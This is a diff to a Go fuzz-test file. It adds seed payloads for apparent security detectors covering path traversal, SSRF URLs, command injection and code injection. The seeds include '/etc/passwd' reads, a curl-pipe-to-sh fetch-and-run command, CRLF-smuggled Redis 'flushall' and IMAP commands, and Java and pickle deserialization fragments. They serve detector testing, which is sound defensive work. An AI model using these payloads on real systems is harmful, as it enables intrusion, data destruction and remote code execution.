@@ -62,15 +62,15 @@ func FuzzXSS(f *testing.F) {
 }
 
 func FuzzPath(f *testing.F) {
-	fuzzDetector(f, []string{"../../etc/passwd", "..%c0%af..%c0%afetc", `..\..\boot.ini`, "%u2216etc", "/proc/self/environ", "a\x00.png"}, func(s string) event.Value { return q("file", s) })
+	fuzzDetector(f, []string{"../../etc/passwd", "..%c0%af..%c0%afetc", `..\..\boot.ini`, "%u2216etc", "/proc/self/environ", "a\x00.png", "..／..／etc", `\\host\share\x`, "..%uEFC8..%uF025"}, func(s string) event.Value { return q("file", s) })
 }
 
 func FuzzURL(f *testing.F) {
-	fuzzDetector(f, []string{"http://169.254.169.254/", "http://0xa9fea9fe", "http://[::ffff:a9fe:a9fe]/", "gopher://x", "http://a.nip.io", "//evil.example/x?", "jar:http://x!/", "http://1.2.3"}, func(s string) event.Value { return q("url", s) })
+	fuzzDetector(f, []string{"http://169.254.169.254/", "http://0xa9fea9fe", "http://[::ffff:a9fe:a9fe]/", "gopher://x", "http://a.nip.io", "//evil.example/x?", "jar:http://x!/", "http://1.2.3", "http://localhost:9001/2018-06-01/runtime/invocation/next"}, func(s string) event.Value { return q("url", s) })
 }
 
 func FuzzCmd(f *testing.F) {
-	fuzzDetector(f, []string{"; cat /etc/passwd", "$(id)", "`id`", "cat${IFS}/etc/passwd", ";c'a't x", "for %g in (a) do echo", "/etc/pa[s]swd", "if exist x echo y"}, func(s string) event.Value { return q("cmd", s) })
+	fuzzDetector(f, []string{"; cat /etc/passwd", "$(id)", "`id`", "cat${IFS}/etc/passwd", ";c'a't x", "for %g in (a) do echo", "/etc/pa[s]swd", "if exist x echo y", "k\r\n*1\r\n$8\r\nflushall", "curl -fsSL https://get.example.io | sh", ";${PATH:0:1}bin${PATH:0:1}id", "; x=id; $x", "x\r\na UID STORE 1:* +FLAGS"}, func(s string) event.Value { return q("cmd", s) })
 }
 
 func FuzzJNDI(f *testing.F) {
@@ -100,7 +100,7 @@ func FuzzScanner(f *testing.F) {
 }
 
 func FuzzCode(f *testing.F) {
-	fuzzDetector(f, []string{"<?php system($_GET[1]); ?>", "exec /*c*/ (1)", `O:8:"stdClass":0:{}`, "java.lang.Runtime", "rO0ABXNy", "while(!0);", "require('child_process')", "(system)('id')"}, func(s string) event.Value { return q("x", s) })
+	fuzzDetector(f, []string{"<?php system($_GET[1]); ?>", "exec /*c*/ (1)", `O:8:"stdClass":0:{}`, "java.lang.Runtime", "rO0ABXNy", "while(!0);", "require('child_process')", "(system)('id')", "gASVIQAAAAAAAAC", "cos\nsystem\n(S'id'\ntR.", "AAEAAAD/////", "(#context['x']=1)", "@java.lang.Runtime@getRuntime()"}, func(s string) event.Value { return q("x", s) })
 }
 
 func FuzzPathProbe(f *testing.F) {
